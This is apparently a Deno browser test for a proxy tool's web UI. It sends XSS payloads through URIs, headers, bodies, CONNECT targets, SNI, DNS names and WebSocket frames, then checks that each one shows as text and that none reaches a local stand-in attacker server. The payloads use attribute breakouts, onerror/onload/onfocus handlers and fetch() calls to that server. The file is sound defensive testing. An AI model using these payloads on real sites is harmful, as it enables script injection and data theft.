import assert from "node:assert/strict";
import { curl, needs, run, startOrigin, startSnoop, testCert, until } from "../helpers/harness.ts";
import { startDnsServer } from "../../scripts/lib/dns_server.ts";
import { Browser } from "../helpers/cdp.ts";

// deno-lint-ignore no-explicit-any
type Json = any;

/**
 * A listener standing for the attacker's server: any request that reaches it means script
 * injected through a record ran in the UI's origin.
 */
function startAttacker() {
  const hits: string[] = [];
  const server = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen: () => {} },
    (req) => {
      hits.push(new URL(req.url).pathname);
      return new Response("stolen", { headers: { "access-control-allow-origin": "*" } });
    },
  );
  return { port: server.addr.port, hits, close: () => server.shutdown() };
}

/** Selectors that find what injected markup would have made. */
const INJECTED = [
  "script:not([src])",
  "script[src]:not([src='/app.js'])",
  "svg:not(#traffic)",
  "iframe",
  "object",
  "embed",
  "img:not(.body)",
  "a[href^='javascript:' i]",
  "[onerror]",
  "[onload]",
  "[onclick]",
  "[onmouseover]",
  "[onfocus]",
  // The UI's own CSSOM styles: bar widths, the list's padding, the split's columns.
  "[style]:not(.bar):not(#list-inner):not(main)",
].join(", ");

Deno.test({
  name:
    "web UI in Chromium: hostile URIs, headers, bodies, CONNECT targets, SNI, DNS names and WebSocket payloads show as text and run nothing",
  ignore: needs("chromium", "curl", "openssl", "dig"),
  async fn() {
    const home = await Deno.makeTempDir({ prefix: "snoop-xss-" });
    const attacker = startAttacker();
    const steal = (what: string) => `fetch('http://127.0.0.1:${attacker.port}/${what}')`;
    // Markup that breaks out of a single-quoted attribute and of element text.
    const html = (what: string) =>
      `'"\`><img src=x onerror="${steal(what)}"><svg/onload=${steal(what + "-svg")}>`;
    const pageBody = `<script>${steal("body-script")}</script>${html("body")}`;
    const svgBody = `<svg xmlns="http://www.w3.org/2000/svg" onload="${steal("svg-body")}">` +
      `<script>${steal("svg-body-script")}</script></svg>`;
    const origin = await startOrigin((req) => {
      const path = new URL(req.url).pathname;
      if (path === "/ws") {
        const { socket, response } = Deno.upgradeWebSocket(req);
        socket.onmessage = (e) => socket.send(`echo ${e.data}`);
        return response;
      }
      if (path === "/ws-page") {
        // The page the proxied browser opens: it sends hostile WebSocket payloads.
        return new Response(
          `<!doctype html><script>
const ws = new WebSocket("ws://" + location.host + "/ws");
ws.onmessage = () => { document.title = "echoed"; ws.close(); };
ws.onopen = () => ws.send(${JSON.stringify(html("ws"))});
</script>`,
          { headers: { "content-type": "text/html" } },
        );
      }
      if (path === "/svg") {
        return new Response(svgBody, { headers: { "content-type": "image/svg+xml" } });
      }
      return new Response(pageBody, {
        headers: { "content-type": "text/html", "x-reply": html("response-header") },
      });
    });
    const upstream = await startDnsServer({});
    const cert = await testCert();
    const tlsOrigin = await startOrigin(() => new Response("tls"), cert);
    const snoop = await startSnoop(`
services:
  - name: proxy
    addr: 127.0.0.1:0
    recorders: [{ name: store, metadata: { http.body: true } }]
    handler: { type: http, metadata: { sniffing: true, sniffing.websocket: true } }
  - name: dns
    addr: 127.0.0.1:0
    recorders: [{ name: store }]
    handler: { type: dns, metadata: { dns: ["udp://127.0.0.1:${upstream.port}"], timeout: 2s } }
    listener: { type: udp }
recorders:
  - name: store
    store: { path: "${home}/records.db" }
ui: { addr: "127.0.0.1:0", store: store }
`);
    const proxy = `127.0.0.1:${snoop.port("proxy")}`;
    const browsers: Browser[] = [];
    try {
      // 1. A URI, request headers, a request body and response bodies with markup (curl).
      const uri = `${origin.url}/a${html("uri").replaceAll(" ", "/")}`;
      await curl(
        "-g",
        "--path-as-is",
        "-x",
        proxy,
        "-H",
        `X-Evil: ${html("header")} javascript:${steal("js")}`,
        "-H",
        "X-Name'`|: name",
        "--data-binary",
        pageBody,
        "-H",
        "Content-Type: text/html",
        uri,
      );
      await curl("-x", proxy, `${origin.url}/svg`);
      // Attributes added after a ' (quoted values with / between them need no space): an
      // element that focuses itself on insertion and runs its onfocus.
      await curl(
        "-g",
        "--path-as-is",
        "-x",
        proxy,
        `${origin.url}/b'/tabindex='1'/autofocus/onfocus='fetch(\`//127.0.0.1:${attacker.port}/focus\`)'/x='`,
      );
      // 2. A CONNECT target with markup (a raw client: curl will not send such a host).
      const conn = await Deno.connect({ hostname: "127.0.0.1", port: snoop.port("proxy") });
      const target = `x${html("connect").replaceAll(" ", "")}.test:443`;
      await conn.write(
        new TextEncoder().encode(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`),
      );
      await conn.read(new Uint8Array(1024));
      conn.close();
      // 3. An SNI with markup, in a tunnel through the proxy (openssl).
      const sni = await run("openssl", [
        "s_client",
        "-proxy",
        proxy,
        "-connect",
        `127.0.0.1:${tlsOrigin.port}`,
        "-servername",
        `sni'"<svg/onload=${steal("sni")}>`,
      ], { stdin: "", timeoutMs: 10_000 });
      // 4. A DNS query name with markup (dig).
      const dig = await run("dig", [
        "@127.0.0.1",
        "-p",
        String(snoop.port("dns")),
        `dns'"<svg/onload=${steal("dns")}>.test`,
        "A",
        "+tries=1",
        "+time=3",
      ]);
      // 5. WebSocket payloads from a page Chromium browses through the proxy.
      await Deno.mkdir(`${home}/proxied`);
      const proxied = await Browser.launch(`${home}/proxied`, `${origin.url}/ws-page`, [
        `--proxy-server=http://${proxy}`,
        "--proxy-bypass-list=<-loopback>",
      ]);
      browsers.push(proxied);
      await proxied.waitFor(`document.title === "echoed"`, "the WebSocket echo");

      const token = snoop.uiToken!;
      const api = async (path: string) =>
        await (await fetch(`http://127.0.0.1:${snoop.uiAddr!.port}${path}`, {
          headers: { authorization: `Bearer ${token}` },
        })).json();
      let records: Json[] = [];
      await until(async () => {
        records = (await api("/api/records")).records;
        return records.some((r) => r.kind === "websocket" || r.proto === "websocket");
      }, "the WebSocket record");
      // The client's text frame, with the markup, is among the WebSocket records.
      const wsIds = records.filter((r) => r.kind === "websocket").map((r) => r.id);
      const frames = await Promise.all(
        wsIds.map(async (id) => ({ ...await api(`/api/records/${id}`), id })),
      );
      const sent = frames.find((f) => f.websocket.from === "client" && f.websocket.opcode === 1);
      assert.ok(sent, "the client's text frame is recorded");
      const key = sent.websocket.maskKey >>> 0;
      const unmasked = Uint8Array.from(
        atob(sent.websocket.payload),
        (c, i) => c.charCodeAt(0) ^ ((key >>> ((i % 4) * 8)) & 0xff),
      );
      assert.equal(new TextDecoder().decode(unmasked), html("ws"));
      assert.ok(sni.code !== undefined && dig.code === 0, dig.stderr);

      // Open the UI: every record listed, each one's details opened.
      const ui = await Browser.launch(`${home}/ui`, snoop.uiUrl!);
      browsers.push(ui);
      await ui.waitFor(
        `document.querySelectorAll("#records tbody tr").length >= ${records.length}`,
        "every record listed",
      );
      const noInjection = async (where: string) => {
        const found = await ui.eval<string[]>(
          `[...document.querySelectorAll(${JSON.stringify(INJECTED)})].map((e) => e.outerHTML)`,
        );
        assert.deepEqual(found, [], where);
      };
      await noInjection("the list");
      const listed = await ui.eval<string>(`document.querySelector("#records tbody").textContent`);
      const hostile = records.filter((r) => /[<'"`]/.test(`${r.uri}${r.host}`));
      assert.ok(hostile.length >= 3, JSON.stringify(records.map((r) => r.uri)));
      for (const r of hostile) {
        assert.ok(listed.includes(r.uri), `${r.uri} shown as text in the list`);
        assert.ok(listed.includes(r.host), `${r.host} shown as text in the list`);
      }
      const detail = async (id: number, sid: string) => {
        await ui.eval(`document.querySelector('#records tbody tr[data-id="${id}"]').click()`);
        await ui.waitFor(
          `document.querySelector("#detail").dataset.id === "${id}"`,
          `the details of record ${id}`,
        );
        assert.ok(
          (await ui.eval<string>(`document.querySelector("#detail").textContent`)).includes(sid),
        );
        await noInjection(`the details of record ${id}`);
        return await ui.eval<string>(`document.querySelector("#detail").textContent`);
      };
      for (const r of records) await detail(r.id, r.sid);

      // The request with markup in its URI, headers and body: all shown as text.
      const post = records.find((r) => r.method === "POST" && r.uri.startsWith(origin.url))!;
      const shown = await detail(post.id, post.sid);
      assert.ok(shown.includes(`javascript:${steal("js")}`), "the header value");
      assert.ok(shown.includes("X-Name'`|"), "the header name");
      assert.ok(shown.includes(html("response-header")), "the response header");
      const bodies = await ui.eval<string[]>(
        `["#request-body", "#response-body"].map((s) => document.querySelector(s + " pre").textContent)`,
      );
      assert.deepEqual(bodies, [pageBody, pageBody]);
      // An SVG body is text, never an image or a document of the UI's origin.
      const svg = records.find((r) => r.uri.endsWith("/svg"))!;
      await detail(svg.id, svg.sid);
      assert.equal(
        await ui.eval<string>(`document.querySelector("#response-body pre").textContent`),
        svgBody,
      );
      assert.equal(await ui.eval<number>(`document.querySelectorAll("#detail img").length`), 0);
      // The WebSocket frame's payload, decoded, as text.
      await detail(sent.id, sent.sid);
      assert.equal(
        await ui.eval<string>(`document.querySelector("#ws-payload").textContent`),
        html("ws"),
      );
      // And in the connection's conversation view, as text, the client's frame on the right.
      await ui.waitFor(`document.querySelector("#ws-conversation li.client")`, "the conversation");
      assert.ok(
        (await ui.eval<string>(`document.querySelector("#ws-conversation").textContent`))
          .includes(html("ws")),
      );
      await noInjection("the WebSocket conversation");
      // The DNS name and the CONNECT target in the details.
      for (const kind of ["dns", "connect"]) {
        const r = records.find((x) => x.kind === kind && /[<'"]/.test(x.uri))!;
        assert.ok((await detail(r.id, r.sid)).includes(r.host), kind);
      }
      await ui.screenshot("test-artifacts/ui-hostile.png");
      // Nothing reached the attacker's listener (give stray requests a moment to land).
      await new Promise((r) => setTimeout(r, 500));
      assert.deepEqual(attacker.hits, []);
    } finally {
      for (const b of browsers) await b.close();
      await snoop.stop(0);
      await origin.close();
      await tlsOrigin.close();
      await upstream.close();
      await attacker.close();
      await Deno.remove(home, { recursive: true });
    }
  },
});
